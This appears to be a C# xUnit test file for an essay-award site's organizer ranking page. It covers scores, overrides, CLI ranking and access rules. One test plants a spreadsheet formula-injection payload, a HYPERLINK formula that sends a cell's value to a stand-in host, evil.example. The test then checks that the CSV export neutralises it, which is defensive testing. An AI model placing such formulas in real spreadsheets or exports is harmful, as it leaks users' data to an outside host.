using System.Net;
using Awards.Web.Cli;
using Awards.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Awards.Web.Tests.Features.Results;

/// <summary>The organizer's ranking page of one essay theme: settings, overrides, the CLI's audit, and who may see it.</summary>
public sealed class RankingTests(AwardsFactory factory) : IClassFixture<AwardsFactory>, IAsyncLifetime
{
    private const string Page = "/organizer/results/journey";

    private List<string> _codes = [];

    public Task InitializeAsync()
    {
        // he: 70, 90, 80 (mean 80, spread 20); yang: 60 from each judge.
        _codes = factory.WithDb(db => db.Assignments.Any())
            ? factory.WithDb(db => db.Entries.Where(e => e.Track.Code == "journey" && e.Status == Core.Entries.EntryStatus.Submitted).OrderBy(e => e.Id).Select(e => e.Code).ToList())
            : Judged.Score(factory, "journey", [70, 90, 80], [60, 60, 60]);
        return Task.CompletedTask;
    }

    public Task DisposeAsync() => Task.CompletedTask;

    [Fact]
    public async Task ThePage_ShowsRawAndNormalizedScores_TheSpread_AndThePrizes()
    {
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        var page = await organizer.GetStringAsync(Page);

        Assert.Contains($"data-code=\"{_codes[0]}\"", page, StringComparison.Ordinal);
        // The theme's name has a colon of its own ("征文：我的脱贫历程"): the heading adds a dash, not a second colon.
        Assert.Contains("<h1 class=\"h3\">评审结果——征文：我的脱贫历程</h1>", page, StringComparison.Ordinal);
        Assert.Contains("<h1 class=\"h3\">Results — Essay: My Poverty Alleviation Journey</h1>", WebUtility.HtmlDecode(await organizer.GetStringAsync(Page + "?culture=en")), StringComparison.Ordinal);
        // Every score with two decimals, however round it is.
        Assert.Contains("70.00 → ", page, StringComparison.Ordinal);
        Assert.Contains("<strong>80.00</strong>", page, StringComparison.Ordinal);
        Assert.Contains("data-testid=\"distribution-chart\"", page, StringComparison.Ordinal);
        Assert.Contains("data-testid=\"severity-chart\"", page, StringComparison.Ordinal);
        // Two entries and 85 prizes: both get a prize and the page says how many stay unawarded.
        Assert.Contains("data-testid=\"unfilled\"", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheJudgingPage_WorksOutMeansToTheTwoDecimalsItShows()
    {
        // huang gave 71, 72 and 72 (mean 71.666…), lin and gao 70 each; the panel's mean is 70.555….
        Judged.Score(factory, "help-story", [71, 70, 70], [72, 70, 70], [72, 70, 70]);
        var round = factory.WithDb(db => db.Rounds.Where(r => db.Tracks.Any(t => t.Id == r.TrackId && t.Code == "help-story")).OrderBy(r => r.Sequence).First().Id);
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");

        var judging = await organizer.GetStringAsync($"/organizer/judging/{round}");

        // Rounded to one decimal, they would show as 71.70, 70.60 and +1.10.
        Assert.Contains("<td>71.67</td>", judging, StringComparison.Ordinal);
        Assert.Contains("（70.56）", judging, StringComparison.Ordinal);
        Assert.Contains("<td>&#x2B;1.11</td>", judging, StringComparison.Ordinal);
    }

    [Fact]
    public async Task TheJudgesQueue_TheirScoreForm_AndTheJudgingPage_ShowScoresWithTwoDecimals()
    {
        // huang gave 70 and 60: the queue, the score form and the organizer's judging page all say "70.00".
        var round = factory.WithDb(db => db.Rounds.Where(r => db.Tracks.Any(t => t.Id == r.TrackId && t.Code == "journey")).OrderBy(r => r.Sequence).First().Id);
        var judge = await Nominating.SignedInAsync(factory, Judged.Judges[0]);
        var queue = await judge.GetStringAsync($"/judge/rounds/{round}");
        Assert.Contains("<td>70.00</td>", queue, StringComparison.Ordinal);
        Assert.Contains("<td>60.00</td>", queue, StringComparison.Ordinal);
        var form = await judge.GetStringAsync($"/judge/rounds/{round}/{_codes[0]}");
        Assert.Contains("<strong data-testid=\"score-total\">70.00</strong>", form, StringComparison.Ordinal);

        // The panel's mean is 70: huang's mean 65.00, spread 5.00, 5.00 below the panel; lin's 75.00, 5.00 above.
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        var judging = await organizer.GetStringAsync($"/organizer/judging/{round}");
        Assert.Contains("<td>65.00</td>", judging, StringComparison.Ordinal);
        Assert.Contains("<td>-5.00</td>", judging, StringComparison.Ordinal);
        Assert.Contains("<td>&#x2B;5.00</td>", judging, StringComparison.Ordinal);
        Assert.Contains("（70.00）", judging, StringComparison.Ordinal);

        // The closing time's zone, as on every page: full-width parentheses after Chinese, one name per language.
        Assert.Contains("评委评分截止（北京时间）</label>", judging, StringComparison.Ordinal);
        Assert.Contains("Judges can score until (UTC+8)</label>", WebUtility.HtmlDecode(await organizer.GetStringAsync($"/organizer/judging/{round}?culture=en")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task AMinimumScore_LeavesTheEntriesBelowItWithoutAPrize_AndABadOneIsRefused()
    {
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        var method = factory.WithDb(db => db.TrackResults.Select(r => (Core.Ranking.AggregationMethod?)r.Method).FirstOrDefault());
        (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "Median", ["minimum"] = "" })).Dispose();
        Assert.Contains("请选择评分汇总方法。", await organizer.GetStringAsync(Page), StringComparison.Ordinal);
        Assert.Equal(method, factory.WithDb(db => db.TrackResults.Select(r => (Core.Ranking.AggregationMethod?)r.Method).FirstOrDefault()));
        (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "RawMean", ["minimum"] = "abc" })).Dispose();
        Assert.Contains("必须是数字", await organizer.GetStringAsync(Page), StringComparison.Ordinal);
        (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "RawMean", ["minimum"] = "150" })).Dispose();
        Assert.Contains("最低分须在", await organizer.GetStringAsync(Page), StringComparison.Ordinal);
        Assert.Null(factory.WithDb(db => db.TrackResults.Select(r => r.MinimumScore).FirstOrDefault()));

        try
        {
            (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "RawMean", ["minimum"] = "65" })).Dispose();
            var csv = await organizer.GetStringAsync(Page + "/ranking.csv");
            var yang = csv.Split('\n').Single(line => line.Contains(_codes[1], StringComparison.Ordinal));
            Assert.Contains("BelowMinimum", yang, StringComparison.Ordinal);
            Assert.DoesNotContain("优秀奖", yang, StringComparison.Ordinal);
        }
        finally
        {
            (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "RawMean", ["minimum"] = "" })).Dispose();
        }
    }

    [Fact]
    public async Task AnOverride_NeedsAReason_AndIsShownAndAudited()
    {
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        var yang = _codes[1];
        (await organizer.SubmitAsync(Page, Page + "/override", new Dictionary<string, string> { ["entry"] = yang, ["level"] = "1", ["reason"] = "  ", ["levels"] = Judged.LevelsStamp(factory, "journey") })).Dispose();
        Assert.Contains("须写明理由", await organizer.GetStringAsync(Page), StringComparison.Ordinal);
        Assert.Equal(0, factory.WithDb(db => db.ResultOverrides.Count()));

        (await organizer.SubmitAsync(Page, Page + "/override", new Dictionary<string, string> { ["entry"] = "ZZZZ-ZZZZ", ["level"] = "1", ["reason"] = "篡改的编号", ["levels"] = Judged.LevelsStamp(factory, "journey") })).Dispose();
        Assert.Equal(0, factory.WithDb(db => db.ResultOverrides.Count()));

        using var moved = await organizer.SubmitAsync(Page, Page + "/override", new Dictionary<string, string> { ["entry"] = yang.ToLowerInvariant(), ["level"] = "1", ["reason"] = "评审组复议：题材独特，提升为一等奖。", ["levels"] = Judged.LevelsStamp(factory, "journey") });
        // Back at the page of the ranking table that shows the entry moved, wherever it ranks.
        Assert.Equal($"{Page}?find={yang.ToLowerInvariant()}", moved.Headers.Location?.OriginalString);
        var page = await organizer.GetStringAsync(moved.Headers.Location!.OriginalString);
        Assert.Contains($"<tr data-code=\"{yang}\" id=\"entry-{yang}\" aria-current=\"true\"", page, StringComparison.Ordinal);
        Assert.Contains("评审组复议：题材独特，提升为一等奖。", page, StringComparison.Ordinal);
        Assert.Contains("data-testid=\"overrides\"", page, StringComparison.Ordinal);
        Assert.Contains("一等奖", System.Text.RegularExpressions.Regex.Match(page, $"<tr data-code=\"{yang}\"[\\s\\S]*?</tr>").Value, StringComparison.Ordinal);
        Assert.True(factory.WithDb(db => db.AuditLog.Any(a => a.Action == "OverrideLevel" && a.EntityKey == yang)));

        // Back to what the scores say, for the other tests.
        (await organizer.SubmitAsync(Page, Page + "/override", new Dictionary<string, string> { ["entry"] = yang, ["level"] = "4", ["reason"] = "恢复按分数排定的奖次。", ["levels"] = Judged.LevelsStamp(factory, "journey") })).Dispose();
    }

    [Fact]
    public async Task TheRankVerb_FromTheDownloadedScores_PrintsTheSameRankingAsTheSite()
    {
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        (await organizer.SubmitAsync(Page, Page + "/settings", new Dictionary<string, string> { ["method"] = "ZScore", ["minimum"] = "" })).Dispose();
        var scores = await organizer.GetStringAsync(Page + "/scores.csv");
        var site = await organizer.GetStringAsync(Page + "/ranking.csv");
        var file = Path.Combine(factory.Root, "scores-journey.csv");
        await File.WriteAllTextAsync(file, scores);

        using var output = new StringWriter();
        var code = await CommandLine.RunAsync(["rank", "--track", "journey", "--scores", file, $"--Awards:DatabasePath={factory.DatabasePath}", $"--Awards:KeysPath={Path.Combine(factory.Root, "keys")}"], output, new StringReader(string.Empty));

        Assert.Equal(0, code);
        Assert.StartsWith("position,place,code,score", site, StringComparison.Ordinal);
        Assert.Equal(site, output.ToString());

        // Another method from the command line changes the numbers, not the database.
        using var raw = new StringWriter();
        Assert.Equal(0, await CommandLine.RunAsync(["rank", "--track", "journey", "--scores", file, "--method", "raw-mean", $"--Awards:DatabasePath={factory.DatabasePath}"], raw, new StringReader(string.Empty)));
        Assert.Contains(",80.00,", raw.ToString(), StringComparison.Ordinal);
        Assert.Equal(Core.Ranking.AggregationMethod.ZScore, factory.WithDb(db => db.TrackResults.Single().Method));
    }

    [Fact]
    public async Task AJudgesFormulaLikeComment_IsGuardedInTheScoresSheet_AndImportsBackAsTyped()
    {
        const string Comment = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"查看详情\")";
        var id = factory.WithDb(db => db.Scores.OrderBy(s => s.AssignmentId).Select(s => s.AssignmentId).First());
        factory.WithDb(db => db.Database.ExecuteSqlRaw("UPDATE Scores SET Comment = {0} WHERE AssignmentId = {1}", Comment, id));
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");

        var scores = await organizer.GetStringAsync(Page + "/scores.csv");

        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example", scores, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"=", scores, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", scores, StringComparison.Ordinal);
        var track = factory.WithDb(db => db.Tracks.Include(t => t.Criteria).Single(t => t.Code == "journey"));
        var sheet = Core.Scoring.Sheets.ScoreSheetReader.Read(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(scores)), "scores.csv", Web.Features.Judging.ScoreImport.Columns(track), Core.Scoring.Sheets.SheetLimits.Default);
        Assert.True(sheet.IsValid);
        Assert.Contains(sheet.Rows, r => r.Comment == Comment);
    }

    [Fact]
    public async Task TheRankVerb_RefusesABadSheet_WithTheRow()
    {
        var file = Path.Combine(factory.Root, "bad-scores.csv");
        await File.WriteAllTextAsync(file, "Entry code,Judge e-mail,思想内容,真实感人,文字表达,结构规范\nABCD-EFGH,judge@example.org,90,90,900,90\n");
        using var output = new StringWriter();

        var code = await CommandLine.RunAsync(["rank", "--track", "journey", "--scores", file, $"--Awards:DatabasePath={factory.DatabasePath}"], output, new StringReader(string.Empty));

        Assert.Equal(1, code);
        Assert.Contains("Row 2", output.ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("coordinator.qingshan@demo.example")]
    [InlineData("judge.lin@demo.example")]
    [InlineData("author.he@demo.example")]
    public async Task OnlyTheOrganizer_SeesResultsBeforeTheyArePublished(string email)
    {
        var other = await Nominating.SignedInAsync(factory, email);
        using var page = await other.Client.GetAsync(Page);
        using var csv = await other.Client.GetAsync(Page + "/ranking.csv");

        Assert.NotEqual(HttpStatusCode.OK, page.StatusCode);
        Assert.NotEqual(HttpStatusCode.OK, csv.StatusCode);
        var notice = await other.GetStringAsync("/notice");
        Assert.DoesNotContain(_codes[0], notice, StringComparison.Ordinal);
    }

    [Fact]
    public async Task AnObjection_WhenNothingIsOnNotice_IsRefused_AndNothingIsStored()
    {
        var visitor = new Browser(factory);
        Assert.Contains("data-testid=\"no-notice\"", await visitor.GetStringAsync("/notice"), StringComparison.Ordinal);
        var token = await visitor.TokenFromAsync("/account/login");
        using var response = await visitor.Client.PostAsync("/notice/objections", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["__RequestVerificationToken"] = token,
            ["Track"] = "journey",
            ["Name"] = "王明",
            ["Contact"] = "13800001111",
            ["Text"] = "我对该作品的获奖名额有异议，请核实。",
        }));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("公示期间", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(0, factory.WithDb(db => db.Objections.Count()));
    }

    [Fact]
    public async Task AnUnknownAward_IsNotFound()
    {
        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
        using var response = await organizer.Client.GetAsync("/organizer/results/no-such-award");
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
    }
}
